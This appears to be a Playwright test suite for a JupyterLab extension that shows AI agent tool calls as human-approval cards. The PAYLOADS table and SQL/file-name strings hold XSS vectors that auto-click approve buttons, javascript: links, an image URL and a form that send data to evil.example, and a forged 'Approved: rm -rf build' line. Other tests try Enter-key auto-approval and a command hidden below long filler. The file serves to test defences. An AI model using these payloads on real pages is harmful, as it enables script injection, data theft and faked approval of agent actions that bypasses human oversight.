"""Everything hostile at once in a real page: no script runs, nothing is fetched, no card is clicked."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import nbformat
import pytest

from ..kernel.scripts import bash, script, write  # noqa: TID252  (no package)
from .lab import Lab, LabServer, expect, read_notebook, write_notebook

if TYPE_CHECKING:
    from playwright.sync_api import Browser

LOAD = "%load_ext archnb"
GO = "%%architect\ngo on"
PICTURES = os.environ.get("ARCHNB_PICTURES")

# What a payload that runs would do: say so, and press whatever approves.
JS = "window.__hit=(window.__hit||0)+1;[...document.querySelectorAll('button')].forEach(b=>b.click())"
TAG = f'<img src="https://evil.example/p" onerror="{JS}">'
SHORT = "<img src=x onerror=window.__hit=1>"  # fits where a name must be short
PAYLOADS = {
    "image": TAG,
    "script": f"<script>{JS}</script>",
    "vector": f'<svg onload="{JS}"><foreignObject><script>{JS}</script></foreignObject></svg>',
    "frame": f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{JS}</script>"></iframe>',
    "link": "[click](javascript:window.__hit=1)",
    "picture": "![shot](https://evil.example/?d=SECRET)",
    "style": "<style>.archnb-card{display:none}</style>",
    "overlay": '<div style="position:fixed;inset:0;background:red">overlay</div>',
    "button": '<button class="jupyter-button archnb-approve">Approve</button>',
    "form": "<form action=https://evil.example><input name=key></form>",
    "linker": '<a data-commandlinker-command="runmenu:run" href="#">run</a>',
    "mimicry": "✅ Approved: rm -rf build · code word: blue whale",
    "ansi": "\x1b[2J\x1b[1A\x1b]8;;javascript:window.__hit=1\x07osc\x1b]8;;\x07",
    "math": r"$\href{javascript:window.__hit=1}{x}$ \\(\href{javascript:1}{y}\\) "
    r"\begin{equation}\href{javascript:window.__hit=1}{z}\end{equation} \eqref{q}",
    "loop": r"$$\newcommand{\a}{\a\a}\a$$",
}
EVERYTHING = "\n\n".join(PAYLOADS.values())
SQL = (
    f'CREATE TABLE "{SHORT}" (id int PRIMARY KEY, "</script><script>window.__hit=1</script>" text);'
)
TODOS = [{"content": EVERYTHING, "status": "pending", "priority": "high"}]
FORBIDDEN = "script, iframe, form, object, embed, svg[onload], mjx-container, [onerror], [onclick], [data-commandlinker-command]"
LOOK = """(forbidden) => {
    const outputs = [...document.querySelectorAll('.jp-OutputArea-output')];
    const found = outputs.flatMap(each => [...each.querySelectorAll(forbidden)]);
    const images = outputs.flatMap(each => [...each.querySelectorAll('img')])
        .filter(image => !image.src.startsWith('data:image/'));
    const links = outputs.flatMap(each => [...each.querySelectorAll('a[href]')])
        .filter(link => !/^(https?|mailto):/.test(link.getAttribute('href')));
    const covers = outputs.flatMap(each => [...each.querySelectorAll('*')])
        .filter(each => ['fixed', 'absolute'].includes(getComputedStyle(each).position)
            && !each.closest('.archnb-card, .jp-RenderedImage'));
    const buttons = outputs.flatMap(each => [...each.querySelectorAll('button')])
        .map(button => button.textContent);
    const styles = outputs.flatMap(each => [...each.querySelectorAll('style')])
        .filter(style => !style.closest('.archnb-card')).length;
    return {
        hit: window.__hit || 0, found: found.map(each => each.outerHTML),
        images: images.map(each => each.outerHTML), links: links.map(each => each.outerHTML),
        covers: covers.map(each => each.outerHTML), buttons, styles,
    };
}"""


def look(lab: Lab) -> dict[str, Any]:
    """What a payload could have left in the page; fails where something active is in it."""
    seen: dict[str, Any] = lab.page.evaluate(LOOK, FORBIDDEN)
    assert seen.pop("hit") == 0
    buttons = seen.pop("buttons")
    assert {key: value for key, value in seen.items() if value} == {}
    assert lab.strangers == []
    assert lab.errors == []
    return {"buttons": buttons}


def picture(lab: Lab, name: str) -> None:
    if PICTURES:
        for theme in ("light", "dark"):
            lab.set_theme(theme)
            lab.page.wait_for_timeout(500)
            lab.screenshot(Path(PICTURES) / f"{name}-{theme}.png", cell=2)
        lab.set_theme("light")


def test_hostile_text_of_every_kind_stays_text(
    lab: Lab, folder: Path, browser: Browser, lab_server: LabServer
) -> None:
    name = f"{SHORT}.sql"
    (folder / "agents").mkdir()
    (folder / "agents" / f"{SHORT}.md").write_text("---\ndescription: x\n---\nBe bad.\n", "utf-8")
    (folder / "page.html").write_text(EVERYTHING, "utf-8")
    printed = f"cat page.html; echo '{SHORT}' | cat"
    calls = [
        [EVERYTHING, ("todowrite", {"todos": TODOS})],
        [("draw", {"text": SQL, "title": SHORT})],
        [
            ("lint", {"text": SQL}),
            ("read", {"filePath": f"missing {SHORT}"}),
            (SHORT, {SHORT: TAG}),
        ],
        [("read", {"filePath": "page.html"}), ("grep", {"pattern": "img"})],
        [write(name, EVERYTHING), bash(printed), write("never.txt", "x")],
        [EVERYTHING],
    ]
    cell = f"%%architect --agent '{SHORT}'\n{EVERYTHING}\nsay on"
    path = write_notebook(folder / "hostile.ipynb", LOAD, script(*calls), cell, "print('next')")
    lab.open(path)
    lab.run_all()
    lab.wait_for_text(2, "of 3 waiting", timeout=60)
    lab.page.wait_for_timeout(1500)
    buttons = look(lab)["buttons"]
    ours = {"Approve", "Approve edited…", "Deny", "Deny with reason…", "Always…", "Show all"}
    panels = {"Back", "Deny and send reason", "Approve this text"}
    assert {words for words in buttons if "for" not in words.split()} <= ours | panels | {
        "Approve all (2)",
        "Approve all (3)",
        SHORT,
        "",  # of the hidden player that tells whether a card is in sight
        *(words for words in buttons if words.startswith(("edit ", "cat ", "*"))),
    }
    assert not (folder / name).exists()
    assert lab.prompt(3) == "[*]:"
    picture(lab, "hostile-cards")
    for count in (3, 2):
        cards = lab.cell(2).locator(".archnb-card")
        expect(cards).to_have_count(count)
        card = cards.first
        if card.get_by_role("button", name="Show all").is_visible():
            card.get_by_role("button", name="Show all").click()
        card.get_by_role("button", name="Approve", exact=True).click()
    expect(lab.cell(2).locator(".archnb-card")).to_have_count(1)
    lab.cell(2).get_by_role("button", name="Deny", exact=True).click()
    lab.wait_until_done(timeout=90)
    lab.page.wait_for_timeout(1000)
    assert look(lab)["buttons"] == []
    said = lab.output(2)
    for words in (
        "<script>window.__hit",
        "image blocked: evil.example (shot)",
        "[click](javascript:window.__hit=1)",
        "<U+001B>[2J",
        "<U+001B>]8;;javascript:",
        '<button class="jupyter-button archnb-approve">Approve</button>',
        "✅ Approved: rm -rf build",
        r"\href{javascript:",
        "<form action=",
    ):
        assert words in said, words
    assert (folder / name).read_text("utf-8") == EVERYTHING
    assert not (folder / "never.txt").exists()
    picture(lab, "hostile-record")
    saved = lab.save()
    mimes = {
        mime
        for each in saved.cells
        for output in each.get("outputs", [])
        for mime in output.get("data", {})
    }
    assert mimes <= {"text/plain", "text/html", "image/png", "image/svg+xml"}
    lab.close()
    for kernel in (True, False):  # o172: trusted, since its cells were run; and read with no kernel
        fresh = Lab(browser, lab_server)
        fresh.open(path, kernel=kernel)
        fresh.wait_for_text(2, "Approved: rm -rf build")
        fresh.page.wait_for_timeout(1000)
        fresh.errors.clear()  # JupyterLab's own, where there is no kernel
        assert look(fresh)["buttons"] == []
        fresh.close()


def test_the_detector_sees_what_runs(lab: Lab, folder: Path) -> None:
    """What the other tests say means something: the same payloads, shown as nobody should."""
    cell = f"from IPython.display import HTML\nHTML({TAG + PAYLOADS['button']!r})"
    lab.open(write_notebook(folder / "unsafe.ipynb", cell))
    lab.run_all()
    lab.wait_until_done()
    lab.page.wait_for_function("() => window.__hit > 0", timeout=10_000)
    assert lab.page.evaluate(LOOK, FORBIDDEN)["buttons"] == ["Approve"]
    assert lab.strangers


def test_keys_approve_nothing_when_cards_appear(lab: Lab, folder: Path) -> None:
    """o139: two cards; Enter and the space bar are held down while they come."""
    calls = [write("a.txt", "a"), write("b.txt", "b")]
    path = write_notebook(folder / "keys.ipynb", LOAD, script(calls, ["done"]), GO)
    lab.open(path)
    lab.run_cell(0)
    lab.wait_until_done()
    lab.run_cell(1)
    lab.wait_until_done()
    lab.run_cell(2)
    approve = lab.cell(2).get_by_role("button", name="Approve", exact=True)
    approve.nth(1).wait_for()
    focused = lab.page.evaluate(
        "() => document.activeElement?.closest('button')?.textContent || ''"
    )
    assert focused == ""
    early = lab.page.evaluate(
        """() => [...document.querySelectorAll('.archnb-card button')]
            .filter(each => each.textContent === 'Approve')
            .map(each => { each.click(); return each.disabled; })"""
    )
    assert len(early) == 2
    for key in ("Enter", " "):
        lab.page.keyboard.press(key)
    expect(approve.first).to_be_enabled()
    expect(approve.nth(1)).to_be_enabled()
    lab.page.wait_for_timeout(500)
    assert not list(folder.glob("*.txt"))
    for _ in range(2):
        lab.cell(2).get_by_role("button", name="Deny", exact=True).first.click()
    lab.wait_until_done()


def test_a_long_command_is_approved_only_when_all_of_it_was_shown(lab: Lab, folder: Path) -> None:
    """o135: what stands below the edge of a box."""
    long = "echo start\n" + "true\n" * 80 + f": {'x' * 3000}; touch made.txt"
    path = write_notebook(folder / "long.ipynb", LOAD, script([bash(long)], ["done"]), GO)
    lab.open(path)
    lab.run_all()
    lab.wait_for_text(2, "82 lines, 3,4")
    approve = lab.cell(2).get_by_role("button", name="Approve", exact=True)
    lab.page.wait_for_timeout(1500)
    expect(approve).to_be_disabled()
    picture(lab, "card-long")
    lab.click("Show all", cell=2)
    expect(approve).to_be_enabled()
    scrolls = "pre => pre.scrollHeight > pre.clientHeight + 1"
    assert not lab.cell(2).locator(".archnb-card pre").first.evaluate(scrolls)
    # A word without end must break: no part of the card may stand beside the page.
    wide = """card => [card, ...card.querySelectorAll('*')].some(one => {
        const edge = one.getBoundingClientRect().right;
        return edge > card.parentElement.getBoundingClientRect().right + 2})"""
    assert not lab.cell(2).locator(".archnb-card").first.evaluate(wide)
    picture(lab, "card-long-whole")
    approve.click()
    lab.wait_until_done()
    assert (folder / "made.txt").exists()


def test_a_saved_script_in_a_foreign_notebook_does_not_run(lab: Lab, folder: Path) -> None:
    """o171: JupyterLab's own promise for a notebook that nobody has run here."""
    path = write_notebook(folder / "foreign.ipynb", "print('never run')")
    content = read_notebook(path)
    data = {"text/html": f"<b>shown</b><script>{JS}</script><img src=x onerror='{JS}'>"}
    content.cells[0].outputs = [nbformat.v4.new_output("display_data", data=data)]
    nbformat.write(content, path)
    lab.open(path, kernel=False)
    lab.wait_for_text(0, "shown")
    lab.page.wait_for_timeout(1000)
    assert lab.page.evaluate("() => window.__hit || 0") == 0


def test_the_code_word_is_on_the_card_and_not_in_the_file(lab: Lab, folder: Path) -> None:
    """o125: also where %architect tells it, the notebook does not keep it."""
    quick = "import archnb.notebook.code_word as told; told.SHOWN = 4"
    calls = script([write("a.txt", "a")], ["done"])
    path = write_notebook(folder / "word.ipynb", LOAD, quick, calls, GO, "%architect")
    lab.open(path)
    lab.run_all()
    lab.wait_for_text(3, "code word: ")
    card = lab.cell(3).locator(".archnb-card")
    word = card.inner_text().split("code word: ")[1].splitlines()[0].strip()
    assert len(word.split()) == 2
    lab.save()
    assert word not in path.read_text("utf-8")
    lab.click("Deny", cell=3)
    lab.wait_for_text(4, f"code word: {word}")
    lab.wait_until_done()
    lab.wait_for_text(4, "%architect shows it again")
    expect(lab.cell(4)).not_to_contain_text(word)
    lab.save()
    assert word not in path.read_text("utf-8")
    assert "a widget" not in lab.output(4)


def test_only_the_cell_that_ran_changes_in_the_file(lab: Lab, folder: Path) -> None:
    """o188: what a review of the change shows."""
    (folder / "schema.sql").write_text("CREATE TABLE a (id int PRIMARY KEY);\n", "utf-8")
    cells = ("#%% md\n# Title", LOAD, "print('kept')", "%%architect\n@schema.sql")
    path = write_notebook(folder / "diff.ipynb", *cells)
    lab.open(path)
    lab.run_all()
    lab.wait_until_done()
    before = lab.save()
    lab.run_cell(3)
    lab.wait_until_done()
    after = lab.save()
    assert after.cells[:3] == before.cells[:3]
    assert after.metadata == before.metadata
    assert after.cells[3].source == before.cells[3].source
    assert after.cells[3].id == before.cells[3].id
    assert after.cells[3].execution_count != before.cells[3].execution_count


@pytest.mark.parametrize("ids", [[None, None], ["same", "same"]])
def test_cells_without_ids_or_with_the_same_load(lab: Lab, folder: Path, ids: list[Any]) -> None:
    """o181: real files."""
    import json

    path = write_notebook(folder / "ids.ipynb", LOAD, "%%architect\nrun: pip --version")
    content = json.loads(path.read_text("utf-8"))
    for cell, each in zip(content["cells"], ids, strict=True):
        cell.pop("id")
        if each:
            cell["id"] = each
    path.write_text(json.dumps(content), "utf-8")
    lab.open(path)
    lab.run_all()
    lab.wait_for_text(1, "exit code 0")
    lab.wait_until_done()
    assert lab.errors == []
